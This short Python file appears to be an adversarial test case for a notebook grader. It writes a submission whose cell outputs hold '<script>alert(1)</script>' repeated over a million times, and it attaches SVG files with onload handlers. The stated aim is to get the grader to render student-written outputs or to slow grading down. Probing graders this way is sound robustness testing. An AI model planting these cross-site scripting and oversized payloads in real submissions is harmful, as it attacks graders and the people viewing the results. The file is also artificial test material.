"""Hand in outputs of 30 MB.

Tries: to make the grader read, keep and show outputs that the student wrote himself
Success: they are in a page or in the graded notebook, or the class takes much longer
Marks: all
"""

import json


def hand_in(right, folder, week):
    script = {"text/html": "<script>alert(1)</script>" * 1_200_000}
    for cell in right["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": script, "metadata": {}}]
            script = {"text/html": "<script>alert(1)</script>"}
        cell["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=alert(1)>"}}
    (folder / f"{week}.ipynb").write_text(json.dumps(right))
